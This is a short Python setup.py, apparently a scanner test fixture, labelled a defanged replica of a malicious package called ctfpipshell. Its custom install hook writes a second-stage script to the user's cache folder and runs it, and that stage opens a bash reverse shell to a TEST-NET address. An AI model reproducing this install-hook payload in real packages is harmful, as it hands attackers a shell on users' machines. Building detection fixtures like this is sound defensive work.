# Defanged replica of ctfpipshell: the install command writes a second
# stage kept as source text to a .py file and starts it. The stage is a
# bash reverse shell to a TEST-NET address.
import os
import subprocess

from setuptools import setup
from setuptools.command.install import install

STAGE = """import os
os.system("bash -i >& /dev/tcp/192.0.2.10/4444 0>&1")
"""


class PostInstall(install):
    def run(self):
        install.run(self)
        dest = os.path.expanduser("~/.cache/remote-access.py")
        with open(dest, "w") as f:
            f.write(STAGE)  # expect: HS108 critical, HS118 high
        subprocess.Popen(["python3", dest])


setup(name="ctf-helper", version="0.0.4", cmdclass={"install": PostInstall})
